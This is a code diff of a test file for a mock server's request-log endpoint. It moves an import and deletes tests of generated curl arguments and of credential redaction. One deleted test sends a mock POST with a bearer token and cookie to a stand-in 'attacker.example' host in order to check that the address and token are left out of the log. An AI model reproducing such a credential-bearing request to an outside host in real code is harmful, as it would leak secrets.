@@ -1,6 +1,6 @@
 import type { PlantStoreMock } from "plant-store-sdk/mocks";
 import { describe, expect, it } from "vitest";
-import { withoutCredentials } from "../../../mocks/app/request-details.ts";
+import { withoutCredentials } from "../../../mocks/requests/without-credentials.ts";
 import { FERN_JSON, fern } from "../../support/fern.ts";
 import { jsonProblem } from "../../support/json-problem.ts";
 import { mockApp } from "../../support/mock-app.ts";
@@ -138,23 +138,6 @@ describe("/__mock/requests", () => {
     expect(await list("?number=4")).toMatchObject({ number: 4, body: FERN_JSON });
   });
 
-  it.each([
-    ["", "/v1/plants?a=b", "'/v1/plants?a=b'"],
-    ["/mock", "/mock/v1/plants", "/v1/plants"],
-  ])("has arguments of curl without the address: below %j, %s", async (basePath, path, shown) => {
-    const { mock, control } = mockApp({ basePath });
-    const headers = { authorization: "Bearer test-token", cookie: "a=b" };
-    await mock.fetch(`http://attacker.example${path}`, { method: "POST", headers, body: "{}" });
-    const [, details] = await control("GET", "/requests?number=1");
-    expect(JSON.parse(details).curlArguments).toEqual([
-      shown,
-      "--request POST",
-      `--header "Authorization: Bearer \${PLANT_STORE_TOKEN:-any-token}"`,
-      "--header 'content-type: text/plain;charset=UTF-8'",
-      "--data-raw '{}'",
-    ]);
-  });
-
   it("redacts the credentials of a record", () => {
     const credentials = { authorization: "Basic abc", "proxy-authorization": "Bearer abc", cookie: "a=b" };
     const recorded = {
@@ -180,17 +163,6 @@ describe("/__mock/requests", () => {
       },
       response: { status: 200, headers: { "set-cookie": "[redacted]", "retry-after": "1" } },
     });
-  });
-
-  it.each([
-    ["cut", "x".repeat(70_000)],
-    ["too large", "x".repeat(2 ** 20 + 1)],
-    ["not UTF-8", Uint8Array.of(0x46, 0xff)],
-  ])("has no arguments of curl for a request whose body is %s", async (_, body) => {
-    const { send, control } = mockApp();
-    await send("/plants", { method: "POST", body });
-    const [status, details] = await control("GET", "/requests?number=1");
-    expect([status, JSON.parse(details).curlArguments]).toEqual([200, undefined]);
   });
 });
 
